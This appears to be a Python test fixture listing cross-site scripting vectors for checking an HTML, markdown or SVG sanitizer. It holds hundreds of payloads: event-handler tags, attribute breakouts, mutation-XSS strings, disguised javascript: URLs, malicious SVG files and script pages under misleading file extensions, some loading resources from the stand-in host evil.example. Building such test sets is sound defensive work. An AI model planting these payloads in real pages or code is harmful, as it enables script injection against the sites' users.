"""Texts that try to run something in a reader's browser; each calls `alert(1)`, or sends a request to another host."""

from itertools import cycle, islice

FOREIGN = "https://evil.example"

_ELEMENTS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<input autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<iframe onload=alert(1)></iframe>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<button onclick=alert(1)>x</button>",
    "<math><mtext></mtext><a xlink:href=javascript:alert(1)>x</a></math>", "<a onmouseover=alert(1)>x</a>",
    "<div onpointerenter=alert(1) onmouseover=alert(1)>x</div>", "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=script href=//evil.example/x.js>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<form><button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:alert(1)>x</a>", "<area href=javascript:alert(1)>", "<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<table background=//evil.example/x>",
    "<p style=\"background:url(//evil.example/x)\">x</p>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<img srcset='//evil.example/x 1x'>",
    "<img src=x style='x:expression(alert(1))'>", "<video poster=//evil.example/x></video>", "<track src=//evil.example/x>",
    "<div contenteditable onblur=alert(1) autofocus>x</div>", "<div tabindex=0 onfocus=alert(1) autofocus>x</div>",
    "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
    "<isindex type=image src=x onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<blink onclick=alert(1)>x</blink>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<x onclick=alert(1)>x</x>", "<x-y onfocus=alert(1) tabindex=1 autofocus>x</x-y>", "<frameset onload=alert(1)>",
    "<applet code=x onerror=alert(1)></applet>", "<portal src=javascript:alert(1)></portal>",
    "<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p>x</button>", "<summary onclick=alert(1)>x</summary>",
    "<a ping=//evil.example href=#>x</a>", "<a target=_blank href=javascript:alert(1)>x</a>", "<a download href=blob:x>x</a>",
    "<img/src=x/onerror=alert(1)>", "<img\nsrc=x\nonerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img src=x oNeRrOr=alert(1)//",
    "<img src=x onerror\n=alert(1)>", "<svg/onload=alert(1)//", "<img src=`x`onerror=alert(1)>", "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' alt='`><img src=x onerror=alert(1)>'>", "<p title='</p><script>alert(1)</script>'>x</p>",
    "<b title=\"x\"onmouseover=alert(1) \">x</b>", "<a href=x title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<a name=\"x\" id='\"><script>alert(1)</script>'>x</a>", "<ol start='1\" onmouseover=\"alert(1)'><li>x</ol>",
    "<td colspan='1\"><script>alert(1)</script>'>x</td>", "<abbr title=x lang='\"onclick=alert(1) '>x</abbr>",
]  # fmt: skip

_BREAKOUTS = [
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "`onmouseover=alert(1)`", "\"><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>", "</a><script>alert(1)</script>", "</h1><script>alert(1)</script>",
    "</summary></details><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "--!><script>alert(1)</script>", "?><script>alert(1)</script>", "*/alert(1)/*", ";alert(1);//", "';alert(1);'", "\";alert(1);\"",
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{{alert(1)}}}", "{{&x}}<script>alert(1)</script>",
    "{{=<% %>=}}<script>alert(1)</script>", "{{>base}}<script>alert(1)</script>", "{{#x}}<script>alert(1)</script>{{/x}}",
    "\" style=\"background:url(//evil.example/x)", "\" srcset=\"//evil.example/x", "\" href=\"javascript:alert(1)", "x\tonclick=alert(1)",
    "x\" tabindex=0 onfocus=alert(1) \"", "\"/><svg onload=alert(1)>", "&quot;><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029", "<\u0000script>alert(1)</script>".replace("\0", "\ufffd"), "<img src=x\u00a0onerror=alert(1)>",
    "0;url=javascript:alert(1)", "0;url=//evil.example\" http-equiv=\"refresh",
]  # fmt: skip

_SCHEMES = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "data:image/svg+xml,<svg onload=alert(1)>"]
_DISGUISES = [
    "{}", " {}", "\t{}", "\u0001{}", "{}//https://example.org", "{}//@example.org", "{}#https://", "\u2028{}", "\u200b{}", "\ufeff{}",
    "view-source:{}", "feed:{}", "jar:{}", "blob:{}", "filesystem:{}", "x-javascript:{}", "//{}", "http://{}", "./{}", "#{}",
]  # fmt: skip
ADDRESSES = [disguise.format(scheme) for scheme in _SCHEMES for disguise in _DISGUISES] + [
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript\t:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
    "javascript&#58;alert(1)", "javascript%3Aalert(1)", "\\javascript:alert(1)", "/\\evil.example/javascript:alert(1)",
    "https://example.org\" onclick=\"alert(1)", "https://example.org' onclick='alert(1)", "https://example.org><script>alert(1)</script>",
    "mailto:a@b.c\"><script>alert(1)</script>", "https://example.org/{{{x}}}", "javascript:alert(1)\"", "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:application/xhtml+xml,<x/>", "file:///etc/passwd", "about:blank",
]  # fmt: skip

_MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><title><a title='</title><img src=x onerror=alert(1)>'>",
    "<template><p title='</template><img src=x onerror=alert(1)>'>", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- <!-- --><img src=x onerror=alert(1)> -->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>", "<listing><img src=x onerror=alert(1)></listing>", "<noembed><img src=x onerror=alert(1)></noembed>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<table><td><svg><desc><td><img src=x onerror=alert(1)>",
    "<p id=x><p id=x><b><i></b></i><img src=x onerror=alert(1)>", "<a><a href=javascript:alert(1)>x</a></a>",
    "<div><a title=\"</div><script>alert(1)</script>\"></div>", "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<img id=cookie name=documentElement><img id=getElementById>", "<a id=location name=location href=javascript:alert(1)>x</a>",
    "<form id=body><input name=append></form>", "<a id=querySelectorAll>x</a><a id=navigator name=clipboard>x</a>",
    "<p id=Main>x</p><p id=Evidence>y</p>", "<span id=__proto__>x</span><span id=constructor>y</span>",
]  # fmt: skip

_MARKDOWN = [
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](&#x6A;avascript:alert(1))", "![x](javascript:alert(1))", "<javascript:alert(1)>",
    "[x](x \"t\\\" onmouseover=alert(1) \\\"\")", "[x](x 'a\" onclick=\"alert(1)')", "![x\" onerror=\"alert(1)](x.png)", "![`<script>alert(1)</script>`](x)",
    "[![x](x\" onerror=alert(1))](javascript:alert(1))", "[x](https://example.org/\"onmouseover=\"alert(1))", "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**", "~~<svg onload=alert(1)>~~", "[<img src=x onerror=alert(1)>](x)", "[^<script>alert(1)</script>]",
    "- [ ] <img src=x onerror=alert(1)>", "> [!NOTE]<script>alert(1)</script>", "\\<script>alert(1)</script>", "<https://example.org/<script>alert(1)</script>>",
    "www.example.org/<img/src=x/onerror=alert(1)>", "a@b.c\"onclick=alert(1)", "| <script>alert(1)</script> |", "$$<script>alert(1)</script>$$",
    "# <script>alert(1)</script> {#x onclick=alert(1)}", "```<script>alert(1)</script>```", "[x]: javascript:alert(1)", "[x][javascript:alert(1)]",
    "let x = \"\u202e<tpircs/>)1(trela<tpircs>\u202c\"", "\u2066<script>alert(1)</script>\u2069", "admin\u200d<script>alert(1)</script>",
]  # fmt: skip

TEXTS = list(dict.fromkeys(_ELEMENTS + _BREAKOUTS + _MUTATIONS + _MARKDOWN + ADDRESSES))

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='99' height='99'{}>{}<text y='20'>x</text></svg>"
_IN_SVG = [
    "<script>alert(1)</script>", "<script href='//evil.example/x.js'/>", "<script xlink:href='data:text/javascript,alert(1)'/>",
    "<script><![CDATA[alert(1)]]></script>", "<a href='javascript:alert(1)'><rect width='99' height='99'/></a>",
    "<a xlink:href='javascript:alert(1)'><text y='9'>x</text></a>", "<a><set attributeName='href' to='javascript:alert(1)'/><text y='9'>x</text></a>",
    "<a><animate attributeName='href' values='javascript:alert(1)'/><text y='9'>x</text></a>", "<set attributeName='x' onbegin='alert(1)'/>",
    "<animate attributeName='x' dur='1s' onbegin='alert(1)'/>", "<foreignObject width='99' height='99'><p xmlns='http://www.w3.org/1999/xhtml' onclick='alert(1)'>x</p></foreignObject>",
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>parent.alert(1)&lt;/script>'/></foreignObject>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>", "<v:script xmlns:v='http://www.w3.org/2000/svg'>alert(1)</v:script>",
    "<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>", "<image href='x' onerror='alert(1)'/>", "<image href='//evil.example/x.png'/>",
    "<use href='//evil.example/x.svg#y'/>", "<use href='data:image/svg+xml,&lt;svg xmlns=\"http://www.w3.org/2000/svg\" id=\"x\">&lt;script>alert(1)&lt;/script>&lt;/svg>#x'/>",
    "<rect width='99' height='99' onclick='alert(1)' onmouseover='alert(1)'/>", "<g onfocus='alert(1)' tabindex='0'><text>x</text></g>", "<style>@import '//evil.example/x.css';</style>",
    "<style>rect{fill:url(//evil.example/x)}</style><rect width='9' height='9'/>", "<rect style='fill:url(//evil.example/x)' width='9' height='9'/>",
    "<rect filter='url(//evil.example/x#f)' width='9' height='9'/>", "<feImage href='//evil.example/x'/>", "<handler type='text/javascript'>alert(1)</handler>",
    "<title><script>alert(1)</script></title>", "<desc><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script></desc>",
    "<switch><script>alert(1)</script></switch>", "<defs><script>alert(1)</script></defs>", "<?xml-stylesheet href='//evil.example/x.xsl' type='text/xsl'?>",
    "<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=//evil.example'/>", "<h:base xmlns:h='http://www.w3.org/1999/xhtml' href='//evil.example'/>",
    "<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='stylesheet' href='//evil.example/x.css'/>", "<h:object xmlns:h='http://www.w3.org/1999/xhtml' data='javascript:alert(1)'/>",
]  # fmt: skip
SVG_FILES = [_SVG.format("", content).encode() for content in _IN_SVG] + [
    _SVG.format(" onload='alert(1)'", "").encode(), _SVG.format(" onclick='alert(1)'", "").encode(),
    b"<?xml-stylesheet type='text/xsl' href='//evil.example/x.xsl'?>" + _SVG.format("", "").encode(),
    b"<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]>" + _SVG.format("", "&x;").encode(),
    b"<!DOCTYPE svg SYSTEM '//evil.example/x.dtd'>" + _SVG.format("", "").encode(), ("\ufeff" + _SVG.format("", _IN_SVG[0])).encode("utf-16"),
    ("<?xml version='1.0' encoding='utf-16le'?>" + _SVG.format("", _IN_SVG[0])).encode("utf-16-le"),
    b"<?xml version='1.0' encoding='utf-7'?>" + _SVG.format("", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-").encode(),
    b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>", b"<!DOCTYPE html><script>alert(1)</script>",
    b"<x:svg xmlns:x='http://www.w3.org/2000/svg'><x:script>alert(1)</x:script></x:svg>",
    b"<?xml version='1.0'?><!-- --><svg:svg xmlns:svg='http://www.w3.org/2000/svg' onload='alert(1)'/>",
]  # fmt: skip

_PAGE = b"<!DOCTYPE html><html><body onload='alert(1)'><script>alert(1)</script></body></html>"
_XML = b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"
OTHER_FILES = {
    **{f"page{number}{ending}": _PAGE for number, ending in enumerate([
        ".html", ".HTM", ".shtml", ".xhtml", ".xht", ".html.", ".html.x", ".hta", ".php", "", ".unknown", ".mht", ".svgz"])},
    **{f"tree{number}{ending}": _XML for number, ending in enumerate([".xml", ".xsl", ".xslt", ".rdf", ".atom", ".plist", ".xsd", ""])},
    "worker.js": b"alert(1)", "module.mjs": b"alert(1)", "plain.txt": _PAGE, "data.json": _PAGE, "table.csv": _PAGE, "picture.png": _PAGE,
}  # fmt: skip


def batches(vectors: list[str], size: int) -> list[list[str]]:
    """Returns the vectors in groups; the last one is filled up from the front."""
    count = -(-len(vectors) // size)
    endless = cycle(vectors)
    return [list(islice(endless, size)) for _ in range(count)]
